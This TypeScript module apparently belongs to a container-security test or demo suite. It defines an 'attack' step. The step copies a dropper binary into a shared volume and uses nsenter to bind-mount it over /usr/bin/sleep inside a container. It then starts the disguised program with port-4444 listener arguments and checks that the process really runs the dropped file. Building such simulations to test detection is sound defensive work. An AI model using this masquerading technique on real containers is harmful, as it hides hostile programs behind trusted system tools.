import { chmodSync, copyFileSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { processesOf } from "../../../src/demo/patch-memory.ts";
import { runTool } from "../../../src/demo/run-tool.ts";
import type { Attack } from "../attack.ts";
import { until } from "../site.ts";

export const attack: Attack = {
  async act(site) {
    const foreign = join(site.volume, "fetched");
    copyFileSync(site.images.dropper, foreign);
    chmodSync(foreign, 0o755);
    const [first] = processesOf(site.container.ref);
    const mount = ["/usr/bin/mount", "--bind", "/run/web/fetched", "/usr/bin/sleep"];
    await runTool("nsenter", ["--target", String(first), "--mount", ...mount]);
    const pid = await site.exec(["/usr/bin/sleep", "-l", "-p", "4444", "-s", "127.0.0.1"]);
    const program = readFileSync(foreign);
    await until("the other program", () => program.equals(readFileSync(`/proc/${pid}/exe`)));
    return pid;
  },
};
